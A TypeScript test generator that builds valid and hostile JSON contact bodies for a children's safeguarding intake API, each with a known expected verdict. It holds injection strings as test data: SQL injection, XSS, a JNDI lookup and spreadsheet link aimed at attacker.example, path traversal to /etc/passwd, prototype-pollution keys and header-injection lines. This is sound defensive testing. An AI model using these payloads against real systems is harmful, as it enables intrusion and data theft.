/* eslint-disable @typescript-eslint/no-explicit-any -- hostile inputs are mutated JSON of any shape, by design */
import { nhsNumberCheckDigit, upnCheckLetter } from '../identifiers';
import type { Contact, ContactSubject, ReferralSource } from '../types';
import { Dice, prng } from './seededRandom';

/**
 * Malformed and hostile contact bodies for the front door, each with the verdict the contract must
 * reach. Verdicts are known by construction (every case starts from a valid contact and breaks it in
 * one known way, or keeps it valid while making it awkward), never by asking the validator.
 *
 * `body` is either raw HTTP body text (broken JSON, prototype-pollution keys that an object literal
 * cannot hold, deep nesting) or a JSON-safe object to send as JSON. Every valid body serialises to
 * under 100 kB, so a gateway with express's default JSON limit must accept each one.
 */
export interface HostileInput {
  body: string | object;
  expectValid: boolean;
  /** What this case tries, for a failing test's message. */
  label: string;
}

// Names people really have, in the scripts English councils meet; all must be accepted.
const GIVEN = [
  'Amy',
  'Oliver',
  'Zoë',
  'Łucja',
  'Søren',
  'Siân',
  'Ngozi',
  'Aisha',
  'محمد',
  'فاطمة',
  '王伟',
  '李娜',
  'Светлана',
  'Дмитрий',
  'अनन्या',
  'আরিফ',
  'Αλέξανδρος',
  'יעל',
  '김민준',
  'さくら',
  'Nguyễn Thị',
  'Ömer',
  'Björk',
  'Ḥasan',
  'José María',
];
const FAMILY = [
  'Example',
  "O'Brien",
  'Smith-Jones',
  'Wiśniewska',
  'Kowalczyk',
  'حداد',
  '张',
  'Иванова',
  'Παπαδόπουλος',
  'כהן',
  'Nguyễn',
  'Ó Súilleabháin',
  'van der Berg',
  'de la Cruz',
  'ap Gwilym',
  'Çelik',
];
// Text that looks like an attack but is text: the contract must accept it and every later layer must treat it as data.
const INJECTIONS = [
  "Robert'); DROP TABLE contacts;--",
  "' OR '1'='1",
  '1; SELECT pg_sleep(10)',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}} ${7*7} #{7*7}',
  '../../../../etc/passwd',
  '*)(uid=*))(|(uid=*',
  '{"$where": "sleep(1000)"}',
  '=HYPERLINK("http://attacker.example","click")',
  'line one\r\nSet-Cookie: session=stolen',
  '\u202Egnp.exe',
  '__proto__',
  'constructor.prototype.polluted',
];
const NARRATIVES = [
  'Child disclosed at school that there is no food at home.',
  'Police attended a domestic incident; two children were present.',
  'Mother presented at A&E with injuries; her baby was with her.',
  'Neighbour reports children left alone overnight.',
  'الطفل أبلغ المعلم بأنه يخاف العودة إلى المنزل.',
  '孩子在学校说家里没有食物。',
  'Ребёнок сообщил учителю, что дома нет еды.',
  'Dziecko powiedziało, że w domu nie ma jedzenia.',
];
const CODES = [
  '3',
  '4B',
  '1B',
  '2B',
  '4A',
  '10A',
  '11A',
  '16A',
  '17A',
  '18B',
  '18C',
  '19B',
  '19C',
  '20',
  '22A',
  '24A',
  'ASB',
  'ARREST',
  'HOMELESS-16-17',
];
const BASES = ['section-47', 'section-17', 'risk-of-significant-harm', 'statutory-function', 'crime-prevention'] as const;

function nhsNumber(d: Dice): string {
  for (;;) {
    const nine = d.digits(9);
    const check = nhsNumberCheckDigit(nine);
    if (check !== undefined) return `${nine}${check}`;
  }
}
function upn(d: Dice): string {
  const body = d.digits(11) + (d.chance(0.2) ? d.pick([...'ABCDEFGHJKLMNPQRTUVWXYZ']) : String(d.int(0, 9)));
  return `${upnCheckLetter(body)}${body}`;
}
function date(d: Dice, from: number, to: number): string {
  const y = d.int(from, to);
  const m = d.int(1, 12);
  const day = d.int(1, 28);
  return `${y}-${String(m).padStart(2, '0')}-${String(day).padStart(2, '0')}`;
}

function subject(d: Dice, i: number): ContactSubject {
  const kind = i === 0 ? 'child' : d.pick(['child', 'adult', 'unborn'] as const);
  const s: ContactSubject = { subjectRef: `s${i + 1}`, kind };
  if (kind === 'unborn') return { ...s, expectedDate: date(d, 2026, 2027) };
  s.givenName = d.pick(GIVEN);
  s.familyName = d.pick(FAMILY);
  s.dateOfBirth = kind === 'child' ? date(d, 2009, 2025) : date(d, 1960, 2004);
  s.sex = d.pick(['male', 'female', 'unknown', 'indeterminate'] as const);
  s.role =
    kind === 'child'
      ? d.pick(['subject', 'victim', 'sibling'] as const)
      : d.pick(['parent-carer', 'victim', 'alleged-perpetrator', 'household-member'] as const);
  if (d.chance(0.6))
    s.identifiers = kind === 'child' && d.chance(0.5) ? { nhsNumber: nhsNumber(d), upn: upn(d) } : { nhsNumber: nhsNumber(d) };
  if (kind === 'child' && d.chance(0.5)) s.presentDuringIncident = d.chance(0.5);
  return s;
}

function referrer(d: Dice): Contact['referrer'] {
  const kind = d.int(0, 5);
  switch (kind) {
    case 0:
      return {
        name: `PC ${d.pick(GIVEN)} ${d.pick(FAMILY)}`,
        role: 'Officer in the case',
        organisation: 'Example Constabulary',
        source: '6',
        channel: { kind: 'topic' },
      };
    case 1:
      return {
        name: d.pick(GIVEN),
        role: 'Designated Safeguarding Lead',
        organisation: 'Example Primary School',
        phone: '01632 960 456',
        source: '2A',
        channel: { kind: 'email', address: 'dsl@example-primary.sch.uk' },
      };
    case 2:
      return {
        name: `Dr ${d.pick(FAMILY)}`,
        organisation: 'Exampleton Medical Practice',
        odsCode: 'Y01234',
        source: '3A',
        channel: { kind: 'webhook', url: 'https://gp.example.nhs.uk/mash/outcomes' },
      };
    case 3:
      return { source: '9', channel: { kind: 'none', reason: 'anonymous' } };
    case 4:
      return {
        name: d.pick(GIVEN),
        role: 'Grandmother',
        phone: '07700 900123',
        source: d.pick(['1A', '1B', '1D'] as ReferralSource[]),
        channel: { kind: 'topic' },
      };
    default:
      return { source: '10', channel: { kind: 'none', reason: 'unknown' } };
  }
}

/** A contact that the contract accepts, varied enough to reach every part of the schema. */
function validContact(d: Dice, n: number): Contact {
  const subjects = Array.from({ length: d.int(1, 4) }, (_, i) => subject(d, i));
  const consent = d.pick([
    { status: 'given' as const },
    { status: 'refused' as const, reason: 'Parent declined; child at risk of significant harm.', lawfulBasis: d.pick(BASES) },
    { status: 'not-sought' as const, reason: 'Asking would alert the alleged perpetrator.', lawfulBasis: d.pick(BASES) },
  ]);
  const c: Contact = {
    agencyReference: `HX-${n}-${d.digits(6)}`,
    referrer: referrer(d),
    subjects,
    presentingIssues: Array.from({ length: d.int(1, 3) }, () => ({ code: d.pick(CODES) })),
    narrative: d.pick(NARRATIVES),
    consent,
    urgency: d.pick(['immediate', 'same-day', 'routine'] as const),
  };
  if (d.chance(0.5))
    c.household = {
      address: {
        lines: ['1 Example Street'],
        town: 'Exampleton',
        postcode: d.pick(['EX1 2AB', 'ex12ab', 'SW1A 1AA', 'M1 1AE', 'B33 8TH']),
      },
    };
  if (d.chance(0.3)) c.incident = { occurredAt: '2026-11-20T22:15:00Z', reference: `INC-${d.digits(8)}` };
  if (d.chance(0.3))
    c.domesticAbuse = {
      dashRiskLevel: d.pick(['standard', 'medium', 'high'] as const),
      childrenPresent: d.chance(0.5),
      dashYesCount: d.int(0, 27),
    };
  if (d.chance(0.2)) c.informationOnly = d.chance(0.5);
  return c;
}

type Case = (d: Dice, base: () => any) => HostileInput | HostileInput[];
const valid = (label: string, body: string | object): HostileInput => ({ body, expectValid: true, label });
const invalid = (label: string, body: string | object): HostileInput => ({ body, expectValid: false, label });

/** Sets a value at a path of keys, creating nothing: the paths below always exist in their base. */
function set(target: any, path: (string | number)[], value: unknown): any {
  let at = target;
  for (const key of path.slice(0, -1)) at = at[key];
  at[path[path.length - 1]] = value;
  return target;
}
function remove(target: any, path: (string | number)[]): any {
  let at = target;
  for (const key of path.slice(0, -1)) at = at[key];
  delete at[path[path.length - 1]];
  return target;
}
/** The raw JSON of a valid contact with `extra` spliced in as the first member of the object at `path`. */
function splice(contact: any, path: string[], extra: string): string {
  const marker = '"__SPLICE__":0';
  const copy = structuredClone(contact);
  let at = copy;
  for (const key of path) at = at[key];
  at.__SPLICE__ = 0;
  return JSON.stringify(copy).replace(marker, extra);
}

const WRONG_TYPES: unknown[] = [0, -1, 1.5, true, false, null, [], {}, 'x', [null], { $gt: '' }];
const STRING_FIELDS = new Set<string | number>(['agencyReference', 'givenName', 'dateOfBirth', 'narrative', 'urgency', 'source']);

const VALID_CASES: Case[] = [
  (_, base) => valid('plain valid contact', base()),
  (d, base) => {
    const c = base();
    for (const s of c.subjects)
      if (s.kind !== 'unborn') Object.assign(s, { givenName: d.pick(GIVEN.slice(8)), familyName: d.pick(FAMILY.slice(5)) });
    return valid('names in non-Latin scripts', c);
  },
  (d, base) => {
    const c = base();
    const text = d.pick(INJECTIONS);
    c.narrative = `${c.narrative} ${text}`;
    // Names are one line: an injection with a line break can only ride in the narrative.
    if (c.subjects[0].givenName && !/[\r\n]/.test(text)) c.subjects[0].familyName = text;
    return valid(`injection-looking text is text: ${JSON.stringify(text)}`, c);
  },
  (d, base) => {
    const c = base();
    const unit = d.pick(['a', 'é', '王', '😀', 'ع ']);
    c.narrative = unit.repeat(20000 / [...unit].length);
    return valid(`narrative of exactly 20000 characters (${JSON.stringify(unit)})`, c);
  },
  (d, base) => {
    const c = base();
    c.subjects[0] = { ...c.subjects[0], kind: 'child', givenName: d.pick(['x', '王', '😀']).repeat(200) };
    delete c.subjects[0].expectedDate;
    return valid('given name of exactly 200 characters', c);
  },
  (_, base) => {
    const c = base();
    c.subjects = Array.from({ length: 30 }, (__, i) => ({ subjectRef: `s${i}`, kind: 'child', givenName: GIVEN[i % GIVEN.length] }));
    return valid('30 subjects, the most a contact may carry', c);
  },
  (_, base) => valid('valid contact as pretty-printed JSON text', JSON.stringify(base(), null, 2)),
  (_, base) =>
    valid(
      'valid contact as compact JSON text with escaped non-ASCII',
      JSON.stringify(base()).replace(/[\u0080-\uffff]/g, (ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`),
    ),
  (_, base) => {
    const c = base();
    c.narrative = 'Tabs\tand newlines\nand carriage returns\r\nare how people write.';
    return valid('tab, newline and CR in a narrative', c);
  },
];

const REQUIRED: (string | number)[][] = [
  ['agencyReference'],
  ['referrer'],
  ['subjects'],
  ['presentingIssues'],
  ['narrative'],
  ['consent'],
  ['urgency'],
  ['referrer', 'source'],
  ['referrer', 'channel'],
  ['subjects', 0, 'subjectRef'],
  ['subjects', 0, 'kind'],
  ['consent', 'status'],
  ['presentingIssues', 0, 'code'],
];
const TYPED: (string | number)[][] = [
  ['agencyReference'],
  ['referrer'],
  ['subjects'],
  ['subjects', 0],
  ['subjects', 0, 'givenName'],
  ['subjects', 0, 'dateOfBirth'],
  ['subjects', 0, 'identifiers'],
  ['presentingIssues'],
  ['narrative'],
  ['consent'],
  ['urgency'],
  ['referrer', 'channel'],
  ['referrer', 'source'],
];

const INVALID_CASES: Case[] = [
  (d, base) => {
    const path = d.pick(REQUIRED);
    return invalid(`missing ${path.join('.')}`, remove(base(), path));
  },
  (d, base) => {
    const path = d.pick(TYPED);
    const field = path[path.length - 1];
    // A string is the right type for string fields, and {} is a valid (empty) identifiers object.
    const wrongs = WRONG_TYPES.filter(
      (v) => !(typeof v === 'string' && STRING_FIELDS.has(field)) && !(field === 'identifiers' && JSON.stringify(v) === '{}'),
    );
    const wrong = d.pick(wrongs);
    return invalid(`${path.join('.')} of the wrong type (${JSON.stringify(wrong)})`, set(base(), path, wrong));
  },
  (d, base) => {
    const [path, value] = d.pick<[(string | number)[], unknown]>([
      [['urgency'], 'URGENT'],
      [['urgency'], 'Immediate'],
      [['referrer', 'source'], '11'],
      [['referrer', 'source'], 6],
      [['subjects', 0, 'kind'], 'baby'],
      [['presentingIssues', 0, 'code'], 'DV'],
      [['presentingIssues', 0, 'code'], '3 '],
      [['consent', 'status'], 'yes'],
      [['referrer', 'channel'], { kind: 'carrier-pigeon' }],
      [['subjects', 0, 'sex'], 'F'],
    ]);
    return invalid(`${path.join('.')} outside its list (${JSON.stringify(value)})`, set(base(), path, value));
  },
  (d, base) => {
    const c = base();
    const good = c.subjects[0].identifiers?.nhsNumber ?? '9434765919';
    const bad = d.pick([
      { nhsNumber: good.slice(0, 9) + String((Number(good[9]) + 1) % 10) },
      { nhsNumber: '1000000010' },
      { nhsNumber: '943 476 5919' },
      { nhsNumber: 9434765919 },
      { upn: 'Q123456789123' },
      { upn: 'I123456789123' },
      { upn: 'P12345678912O' },
      { upn: 'p123456789123' },
    ]);
    c.subjects[0] = { ...c.subjects[0], kind: 'child', identifiers: bad };
    delete c.subjects[0].expectedDate;
    return invalid(`bad identifier ${JSON.stringify(bad)}`, c);
  },
  (d, base) => {
    const c = base();
    const [path, value] = d.pick<[(string | number)[], string]>([
      [['subjects', 0, 'dateOfBirth'], '2019-02-30'],
      [['subjects', 0, 'dateOfBirth'], '2019-13-01'],
      [['subjects', 0, 'dateOfBirth'], '02/03/2019'],
      [['subjects', 0, 'dateOfBirth'], '2019-03-02T00:00:00Z'],
      [['incident'], '2026-11-20 22:15'],
    ]);
    if (path[0] === 'incident') c.incident = { occurredAt: value };
    else set(c, path, value);
    return invalid(`bad date ${value}`, c);
  },
  (d, base) => {
    const c = base();
    const [path, size] = d.pick<[(string | number)[], number]>([
      [['narrative'], 20001],
      [['narrative'], 65536],
      [['narrative'], 1_000_000],
      [['agencyReference'], 101],
      [['referrer', 'role'], 201],
      [['subjects', 0, 'givenName'], 201],
    ]);
    const unit = path[0] === 'agencyReference' ? 'A' : d.pick(['a', '王', '😀']);
    set(c, path, unit.repeat(size));
    return invalid(`${path.join('.')} of ${size} characters`, c);
  },
  (d, base) => {
    const c = base();
    const [where, key] = d.pick<[string, string]>([
      ['top', 'riskScore'],
      ['top', 'constructor'],
      ['top', 'prototype'],
      ['referrer', 'email'],
      ['subject', '$where'],
      ['consent', 'override'],
      ['top', 'toString'],
    ]);
    if (where === 'top') c[key] = { polluted: true };
    else if (where === 'referrer') c.referrer[key] = 'x@example.org';
    else if (where === 'subject') c.subjects[0][key] = 'sleep(1000)';
    else c.consent[key] = true;
    return invalid(`unknown field ${where}.${key}`, c);
  },
  (d, base) => {
    const c = base();
    const [path, label] = d.pick<[string[], string]>([
      [[], 'top'],
      [['referrer'], 'referrer'],
      [['consent'], 'consent'],
      [['subjects', '0'], 'subject'],
      [['referrer', 'channel'], 'channel'],
    ]);
    const payload = d.pick([
      '"__proto__":{"polluted":true}',
      '"__proto__":{"isAdmin":true,"consent":{"status":"given"}}',
      '"constructor":{"prototype":{"polluted":true}}',
    ]);
    return invalid(`prototype pollution key in ${label}: ${payload.slice(0, 20)}`, splice(c, path, payload));
  },
  (d, base) => {
    const depth = d.pick([64, 1000, 10_000, 50_000]);
    const open = d.pick(['[', '{"a":']);
    const nest = open === '[' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
    const c = base();
    const where = d.pick(['narrative', 'subjects', 'referrer', 'top']);
    if (where === 'top') return invalid(`nesting ${depth} deep as the whole body`, nest);
    const json = JSON.stringify({ ...c, [where]: '__NEST__' }).replace('"__NEST__"', nest);
    return invalid(`nesting ${depth} deep in ${where}`, json);
  },
  (d, base) => {
    const text = JSON.stringify(base());
    const broken = d.pick([
      () => text.slice(0, d.int(1, text.length - 1)),
      () => text.replace(/}$/, ',}'),
      () => text.replace(/"/g, "'"),
      () => text.replace(/"urgency"/, 'urgency'),
      () => text.replace(/}$/, ',"dashYesCount":NaN}'),
      () => `${text.slice(0, -1)} /* comment */}`,
      () => '',
      () => ' ',
      () => 'null',
      () => 'true',
      () => '42',
      () => '"a contact"',
      () => '[]',
      () => `[${text}]`,
      () => `${text}${text}`,
      () => text.replace(/"narrative":"/, '"narrative":"\\x41'),
      () => `\u0000${text}`,
      () => text.replace(/"urgency":"[a-z-]+"/, (m) => `${m},"urgency":"whenever"`),
    ])();
    return invalid(`broken JSON text (${JSON.stringify(broken.slice(0, 30))}...)`, broken);
  },
  (d, base) => {
    const c = base();
    const bad = d.pick(['\u0000', '\u0007', '\u001b[31m', '\u007f', '\ud800', '\udfff', 'a\ud83d']);
    const path = d.pick([['narrative'], ['agencyReference'], ['subjects', 0, 'familyName'], ['referrer', 'channel'], ['consent']]);
    if (path[0] === 'referrer') {
      c.referrer = { name: `Name${bad}`, source: '1A', channel: { kind: 'topic' } };
    } else if (path[0] === 'consent') {
      c.consent = { status: 'refused', reason: `Reason ${bad} given`, lawfulBasis: 'section-47' };
    } else if (path[0] === 'subjects') {
      c.subjects[0] = { subjectRef: 's1', kind: 'child', familyName: `Ex${bad}ample` };
    } else {
      set(c, path, `${path[0] === 'agencyReference' ? 'REF' : 'Text'}${bad}tail`);
    }
    return invalid(`unprintable ${JSON.stringify(bad)} in ${path.join('.')}`, c);
  },
  (d, base) => {
    const [path, value] = d.pick<[(string | number)[], unknown]>([
      [['narrative'], ''],
      [['narrative'], '   \n\t  '],
      [['subjects'], []],
      [['presentingIssues'], []],
      [['agencyReference'], ''],
      [['agencyReference'], '-leading-dash'],
    ]);
    return invalid(`empty ${path.join('.')} (${JSON.stringify(value)})`, set(base(), path, value));
  },
  (d, base) => {
    const c = base();
    const leak = d.pick([
      { source: '9', name: 'Sue', channel: { kind: 'none', reason: 'anonymous' } },
      { source: '9', phone: '07700 900456', channel: { kind: 'none', reason: 'anonymous' } },
      { source: '9', channel: { kind: 'email', address: 'sue@example.org' } },
      { source: '6', channel: { kind: 'webhook', url: 'javascript:alert(1)' } },
      { source: '3A', channel: { kind: 'webhook', url: 'ftp://gp.example/outcomes' } },
      { source: '2A', channel: { kind: 'email', address: 'not an address' } },
      { source: '2A', channel: { kind: 'email', address: 'a@b.c', url: 'https://x.example' } },
      { source: '1A', channel: { kind: 'none' } },
    ]);
    c.referrer = leak;
    return invalid(`referrer ${JSON.stringify(leak)}`, c);
  },
  (d, base) => {
    const consent = d.pick([
      { status: 'not-sought', reason: 'Would alert the perpetrator.' },
      { status: 'refused', lawfulBasis: 'section-47' },
      { status: 'not-sought' },
      { status: 'refused', reason: 'no', lawfulBasis: 'section-47' },
      { status: 'given', lawfulBasis: 'gut-feeling' },
    ]);
    return invalid(`consent ${JSON.stringify(consent)}`, set(base(), ['consent'], consent));
  },
  (d, base) => {
    const c = base();
    const which = d.int(0, 3);
    if (which === 0) c.subjects = Array.from({ length: 31 }, (_, i) => ({ subjectRef: `s${i}`, kind: 'child' }));
    if (which === 1) c.presentingIssues = Array.from({ length: 21 }, () => ({ code: '20' }));
    if (which === 2) c.household = { relationships: Array.from({ length: 101 }, () => ({ from: 's1', to: 's1', type: 'other' })) };
    if (which === 3) c.household = { address: { lines: ['1', '2', '3', '4', '5', '6'], postcode: 'EX1 2AB' } };
    return invalid(`too many items (${['subjects', 'presentingIssues', 'relationships', 'address lines'][which]})`, c);
  },
  (d, base) => {
    const c = base();
    const count = d.pick([28, -1, 1.5, 1e308, '9']);
    c.domesticAbuse = { dashRiskLevel: 'medium', childrenPresent: true, dashYesCount: count };
    return invalid(`DASH yes count ${count}`, c);
  },
  (_, base) => {
    const c = base();
    c.subjects[0] = { subjectRef: 's1', kind: 'unborn' };
    return invalid('unborn child without an expected date', c);
  },
  (d, base) => {
    const c = base();
    const name = d.pick(['Amy\nBcc: everyone@example.org', 'Amy\r\nSubject: spoofed', 'Amy\tExample']);
    c.subjects[0] = { subjectRef: 's1', kind: 'child', givenName: name };
    return invalid(`a line break or tab in a name (${JSON.stringify(name)})`, c);
  },
  (d, base) => invalid('a batch (array) of contacts instead of one', d.chance(0.5) ? [base(), base()] : [base()]),
];

/**
 * n inputs for a seed; the same (n, seed) gives the same inputs everywhere. Every case kind appears
 * once before any repeats, then kinds are drawn at random with about a third valid.
 */
export function hostileInputs(n: number, seed: number): HostileInput[] {
  const d = new Dice(prng(seed));
  let count = 0;
  const base = () => JSON.parse(JSON.stringify(validContact(d, count++)));
  const all = [...VALID_CASES, ...INVALID_CASES];
  const out: HostileInput[] = [];
  for (let i = 0; out.length < n; i++) {
    const kind = i < all.length ? all[i] : d.chance(0.33) ? d.pick(VALID_CASES) : d.pick(INVALID_CASES);
    const made = kind(d, base);
    for (const input of Array.isArray(made) ? made : [made]) if (out.length < n) out.push(input);
  }
  return out;
}
